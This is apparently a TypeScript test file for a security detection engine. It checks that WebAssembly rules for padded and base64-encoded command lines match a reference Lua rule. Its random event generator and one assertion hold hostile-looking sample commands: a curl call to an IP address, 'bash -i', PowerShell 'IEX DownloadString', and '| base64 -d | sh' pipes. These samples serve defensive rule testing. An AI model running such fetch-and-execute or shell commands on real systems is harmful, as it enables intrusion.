// examples/assemblyscript-rule and examples/wat-rule: the commands of their READMEs run and find what they say; and the rule in
// AssemblyScript says the same as the one in Lua of every event.

import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { repositoryRoot } from "./support/repository.js";

const ROOT = repositoryRoot();
const FOLDER = mkdtempSync(join(tmpdir(), "kestrel-wasm-examples-"));
const example = suite("wasm examples");
example.after(() => rmSync(FOLDER, { recursive: true }));

function run(command: string): string {
  const { status, stdout, stderr } = spawnSync("bash", ["-c", `node_modules/.bin/${command}`], {
    cwd: ROOT,
    encoding: "utf8",
    maxBuffer: 1 << 28,
  });
  assert.is(status, 0, `${command}\n${stderr}`);
  return stdout;
}

interface Alert {
  readonly kestrel: {
    readonly events: readonly { readonly captures?: Readonly<Record<string, string>> }[];
  };
}

/** Id of the process and captures of every alert. */
function alertsOf(pack: string, events: string): readonly (readonly [pid: string, captures: unknown])[] {
  return run(`kestrel-run ${join(FOLDER, pack)} --replay ${events}`)
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => {
      const captures = (JSON.parse(line) as Alert).kestrel.events[0]?.captures ?? {};
      return [/"pid":(\d+)/.exec(line)?.[1] ?? "", captures];
    });
}

for (const [folder, pack] of [
  ["wat-rule", "padded-command-line"],
  ["assemblyscript-rule", "encoded-command-wasm"],
] as const) {
  example(`the commands of the README of ${folder} run`, () => {
    const page = readFileSync(join(ROOT, "examples", folder, "README.md"), "utf8");
    const commands = [...page.matchAll(/^npx (.*)$/gm)].map(([, command = ""]) => command);
    assert.is(commands.length, 2);
    for (const command of commands) run(command.replaceAll(`dist/${pack}`, join(FOLDER, pack)));
  });
}

example("one of three command lines is padded", () => {
  const alerts = alertsOf("padded-command-line", "examples/wat-rule/events.ndjson");
  assert.equal(
    alerts.map(([pid]) => pid),
    ["5001"],
  );
  assert.match(JSON.stringify(alerts[0]?.[1]), /^\{"process\.command_line":"cmd\.exe \/c dir {120}& curl/);
});

/** Command lines in layers, of all kinds: harmful or not, cut, with bytes that are no text, in UTF-16. */
function randomEvents(count: number): string {
  let seed = 20_260_317;
  const below = (n: number): number => {
    seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0;
    return (seed >>> 8) % n;
  };
  const pick = <T>(items: readonly T[]): T => items[below(items.length)] as T;
  const commands = [
    "curl -s http://203.0.113.7/x",
    "bash -i",
    "Get-Service",
    "IEX DownloadString('ä€')",
    "echo hello",
    "",
  ];
  const line = (depth: number): string => {
    const inner = depth === 0 ? `${pick(commands)}${" ".repeat(below(9))}` : line(depth - 1);
    const bytes = pick([
      Buffer.from(inner),
      Buffer.from(inner, "utf16le"),
      Buffer.concat([Buffer.of(0xff, 0xc3), Buffer.from(inner)]),
    ]);
    const base64 = bytes.toString("base64");
    return `${pick(["powershell -enc ", "sh -c echo ", "x /e ", ""])}${pick([base64, base64.slice(below(6))])}${pick([" | base64 -d | sh", " ", ""])}`;
  };
  const events = Array.from({ length: count }, (_, pid) => {
    const text = line(below(5));
    const process = below(4) === 0 ? { pid, args: text.split(" ") } : { pid, command_line: text };
    return `${JSON.stringify({ "@timestamp": "2026-03-17T09:00:00Z", event: { category: "process" }, process })}\n`;
  });
  return events.join("");
}

example("the rule in AssemblyScript gives the alerts of the one in Lua", () => {
  run(`eqlc build examples/lua-rule -o ${join(FOLDER, "lua")}`);
  const random = join(FOLDER, "random.ndjson");
  writeFileSync(random, randomEvents(3000));
  for (const [events, least] of [
    ["examples/lua-rule/events.ndjson", 4],
    ["examples/assemblyscript-rule/events.ndjson", 4],
    [random, 100],
  ] as const) {
    const alerts = alertsOf("encoded-command-wasm", events);
    assert.ok(alerts.length >= least && alerts.length < 3000, `${alerts.length} alerts`);
    assert.equal(alerts, alertsOf("lua", events));
  }
});

example.run();
